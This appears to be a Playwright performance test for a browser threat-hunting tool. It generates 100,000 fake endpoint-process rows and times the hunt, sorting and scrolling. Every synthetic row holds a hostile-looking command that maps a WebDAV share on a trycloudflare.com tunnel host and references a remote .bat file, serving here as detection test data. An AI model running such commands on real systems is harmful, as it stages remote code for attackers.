/**
 * Scale: a generated export where every one of 100,000 rows is a hit of the bundled hunt. The file
 * is written to a temp dir at test time (a checked-in 15 MB fixture would only bloat the repo).
 */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, HEADER, shot, tempDir, test } from './fixtures';

const HITS = 100_000;
const HOSTS = 997;
const BASE_MS = Date.UTC(2025, 5, 1);

/** Row i happens i seconds after BASE_MS, so the hunt's `sort desc _time` puts ev-0 last. */
function generate(path: string, n: number): void {
  const lines = [HEADER.join(',')];
  for (let i = 0; i < n; i++) {
    const time = new Date(BASE_MS + i * 1000).toISOString();
    const host = `WS-${String(i % HOSTS).padStart(4, '0')}`;
    const cmd = `cmd.exe /c net use \\\\sub${i}.trycloudflare.com@SSL\\DavWWWRoot\\x${i}.bat`;
    lines.push(
      `${time},${host},CORP\\user${i % 13},cmd.exe,C:\\Windows\\System32\\cmd.exe,${cmd},ev-${i},agent-${i % HOSTS},XDR agent,PROCESS,PROCESS_START,AGENT_OS_WINDOWS`,
    );
  }
  writeFileSync(path, lines.join('\n') + '\n');
}

declare global {
  interface Window {
    __longestTask?: number;
  }
}

test('100,000 hits: done, sortable in under a second, last hit reachable', async ({ page }) => {
  test.setTimeout(120_000);
  const path = join(tempDir(), 'scale-100k.csv');
  generate(path, HITS);
  await page.addInitScript(() => {
    window.__longestTask = 0;
    new PerformanceObserver((list) => {
      for (const e of list.getEntries()) window.__longestTask = Math.max(window.__longestTask ?? 0, e.duration);
    }).observe({ type: 'longtask', buffered: true });
  });
  await page.goto('/');
  await expect(page.getByTestId('hunt-title')).toBeVisible();
  // The host checklist of the Charts tab groups hits by host in O(hosts x hits) on every render
  // (several seconds at 100,000 hits over 997 hosts); it is collapsed here so this test measures
  // the table and the worker. Remove this once the checklist groups hits once.
  await page.getByTestId('overview-tab-none').click();
  await page.evaluate(() => {
    window.__longestTask = 0;
  });
  const t0 = Date.now();
  await page.getByTestId('file-input').setInputFiles(path);
  await expect(page.getByTestId('run-status')).toHaveAttribute('data-state', 'done', { timeout: 90_000 });
  const runMs = Date.now() - t0;
  await expect(page.getByTestId('hit-count')).toHaveText(String(HITS));
  const longest = await page.evaluate(() => window.__longestTask ?? 0);
  const idleMs = Date.now() - t0;
  console.log(`[scale] setInputFiles->done ${runMs} ms; main thread free after ${idleMs} ms; longest task ${Math.round(longest)} ms`);

  const grid = page.getByTestId('hits-table');
  const rows = page.getByTestId('hit-row');
  // The query's order is newest first, so the newest event leads and the oldest (ev-0) is last.
  await expect(rows.first()).toHaveAttribute('data-event-id', `ev-${HITS - 1}`);
  await grid.focus();
  await page.keyboard.press('End');
  await expect(page.locator('[data-testid="hit-row"][data-event-id="ev-0"]')).toBeInViewport();
  await shot(page, 'scale-bottom');
  await page.keyboard.press('Home');
  await expect(rows.first()).toBeInViewport();

  // Ascending host: WS-0000's hits, newest first (the sort is stable over the query's order).
  const firstOfHost0 = Math.floor((HITS - 1) / HOSTS) * HOSTS;
  const s0 = Date.now();
  await page.getByTestId('sort-agent_hostname').click();
  await expect(rows.first()).toHaveAttribute('data-event-id', `ev-${firstOfHost0}`, { timeout: 5_000 });
  await expect(grid).toHaveAttribute('data-view-state', 'ready');
  const sortMs = Date.now() - s0;
  const computeMs = Number(await grid.getAttribute('data-view-ms'));
  console.log(`[scale] sort by host: ${sortMs} ms click->first row; worker computeMs ${computeMs}`);
  expect(sortMs).toBeLessThan(1000);
  await expect(rows.first().locator('[data-column="action_process_image_command_line"] mark').first()).toBeVisible();
  await shot(page, 'scale-sorted');
});
